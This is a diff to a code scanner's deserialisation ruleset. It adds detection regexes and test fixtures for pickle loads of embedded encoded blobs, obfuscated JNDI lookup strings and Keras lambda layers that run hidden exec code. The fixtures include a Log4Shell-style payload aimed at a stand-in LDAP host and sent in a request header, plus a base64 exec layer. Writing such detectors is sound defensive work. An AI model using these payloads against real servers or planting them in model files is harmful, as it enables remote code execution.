@@ -240,5 +240,52 @@ export const deserialisation: RuleSet = {
       ],
       misses: [rb('Gem::Requirement.new("~> 1.0")')],
     },
+    {
+      id: id('pickle-literal'),
+      severity: 'critical',
+      why: 'Unpickles a text that stands in the program itself: code in a form nobody reads.',
+      when: is(
+        ['pickle.loads(', 'cpickle.loads(', 'dill.loads(', 'marshal.loads('],
+        /(?:c?pickle|dill|marshal)\.loads\(\s*(?:\w{1,12}\.){0,2}(?:b64decode|b85decode|a85decode|unhexlify|fromhex|decompress)\(\s*[rb]{0,2}["']/i,
+        { families: ['py'], after: 120 },
+      ),
+      matches: [py('CACHE = pickle.loads(base64.b64decode(b"Y3Bvc2l4CnN5c3RlbQ=="))')],
+      misses: [
+        py('CACHE = pickle.loads(base64.b64decode(row["value"]))'),
+        py('with open(path, "rb") as f:\n    pickle.load(f)'),
+      ],
+    },
+    {
+      id: id('lookup-spelled'),
+      severity: 'critical',
+      why: 'A look-up that loads a class from an address, spelled so that a filter does not see it.',
+      when: is(
+        ['ndi:', 'jndi'],
+        /\$\{(?:\$\{(?:lower|upper|env|sys|date|::-)[^}\n]{0,30}\}|[jndi]){1,8}:?\s?(?:\$\{[^}\n]{1,30}\}|[ldaprmisn]){2,10}:?\/?\/?(?:\$\{|[\d.]{7,15}|[\w.-]{4,60})/i,
+        { before: 60, after: 160, quoted: true },
+      ),
+      matches: [
+        py(
+          'PAYLOAD = "${${lower:j}ndi:${lower:l}dap://192.0.2.2:1389/Basic/Command"\nrequests.get(url, headers={"User-Agent": PAYLOAD})',
+        ),
+      ],
+      misses: [py('name = "${jndi_name}"\nprint(name)')],
+    },
+    {
+      id: id('layer-with-code'),
+      severity: 'critical',
+      why: 'A layer of a model that runs hidden text when the model is loaded.',
+      when: is(
+        ['lambda '],
+        /["'](?:raw_)?lambda \w{1,10}:\s*exec\(\s*__import__|["']lambda \w{1,10}:[^"\n]{0,40}(?:exec|eval)\(__import__\(\\?['"]base64/,
+        { before: 4, after: 200, quoted: true },
+      ),
+      matches: [
+        py(
+          `layers.insert(1, {"function": [f"lambda x: exec(__import__('base64').b64decode('{HIDDEN}')) or x"]})\nopen(p, "w").write(str(layers))`,
+        ),
+      ],
+      misses: [py('layers.Lambda(lambda x: x * 2)')],
+    },
   ],
 }
